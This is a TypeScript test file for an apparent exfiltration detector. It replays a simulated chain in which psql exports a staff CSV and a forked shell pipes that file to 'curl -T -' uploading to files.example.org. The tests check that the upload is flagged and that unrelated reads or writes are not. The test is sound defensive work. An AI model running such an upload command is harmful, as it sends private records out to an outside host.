import { describe, expect, it } from 'vitest';
import { replayed } from '../../support/replay.ts';
import { PROGRAMS, Story } from '../../support/story.ts';

const UPLOAD = ['curl', '-T', '-', 'https://files.example.org/in'];

function story(read: string, flags = 1): Story {
  const s = new Story().host();
  const shell = s.shell();
  const psql = s.run(shell, { ...PROGRAMS.psql, args: ['psql', 'crm'] });
  s.wait(3).write(psql, '/Users/maria/Documents/staff.csv').exit(psql);
  const child = s.wait(60).fork(shell);
  s.open(child, read, flags);
  s.exec(child, { ...PROGRAMS.curl, args: UPLOAD });
  return s;
}

describe('an uploader whose standard input a shell redirected', () => {
  it('sends the export that the shell opened for it', () => {
    expect(replayed(story('/Users/maria/Documents/staff.csv')).last).toMatchObject([
      {
        stage: 'upload',
        evidence: 'piped-to-uploader',
        link: 'lineage',
        files: ['/Users/maria/Documents/staff.csv'],
        destination: 'files.example.org',
      },
    ]);
  });

  it('sends nothing of the chain when another file was opened', () => {
    expect(replayed(story('/Users/maria/Documents/menu.csv')).last).toMatchObject([
      { stage: 'export', evidence: null },
    ]);
  });

  it('sends nothing of the chain when the file was opened for writing', () => {
    expect(replayed(story('/Users/maria/Documents/staff.csv', 2)).last).toMatchObject([
      { stage: 'export', evidence: null },
    ]);
  });
});
